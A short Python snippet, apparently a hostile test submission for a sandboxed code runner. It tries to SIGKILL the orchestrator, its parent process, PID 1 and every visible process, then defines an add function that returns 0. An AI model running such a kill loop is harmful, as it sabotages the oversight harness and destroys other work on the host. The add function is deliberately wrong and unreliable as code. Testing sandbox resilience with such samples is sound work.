# attempts: signal the parent (the orchestrator) and every process it can see
import os
for pid in (@PARENT_PID@, os.getppid(), 1, -1):
    try:
        os.kill(pid, 9)
    except Exception:
        pass
def add(a, b):
    return 0
